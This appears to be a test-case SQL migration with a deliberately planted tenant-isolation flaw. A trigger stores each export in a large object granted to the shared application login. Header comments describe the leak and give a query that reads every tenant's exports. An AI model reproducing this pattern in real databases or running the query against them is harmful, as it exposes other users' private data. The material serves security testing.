-- Any network reads the exports of all, because large objects follow the rights of the login, which all
-- networks share, and their numbers can be listed.
-- about: store_export, Export, large object, lo_from_bytea, pg_largeobject
-- as: hf_breathmap_app
-- exploit: SET request.network_id = 'net_alder';
-- exploit: SELECT convert_from(lo_get(oid), 'UTF8') FROM pg_largeobject_metadata;
-- shows: Road-secret export
ALTER TABLE "Export" ADD COLUMN "file" oid;
-- Long files go to large objects, which the driver can stream.
CREATE FUNCTION store_export() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
SET search_path = public, pg_temp AS $$
BEGIN
  NEW."file" := lo_from_bytea(0, convert_to(NEW."csv", 'UTF8'));
  EXECUTE format('GRANT SELECT ON LARGE OBJECT %s TO hf_breathmap_app', NEW."file");
  RETURN NEW;
END $$;
REVOKE ALL ON FUNCTION store_export() FROM PUBLIC;
CREATE TRIGGER store_export BEFORE INSERT ON "Export" FOR EACH ROW EXECUTE FUNCTION store_export();
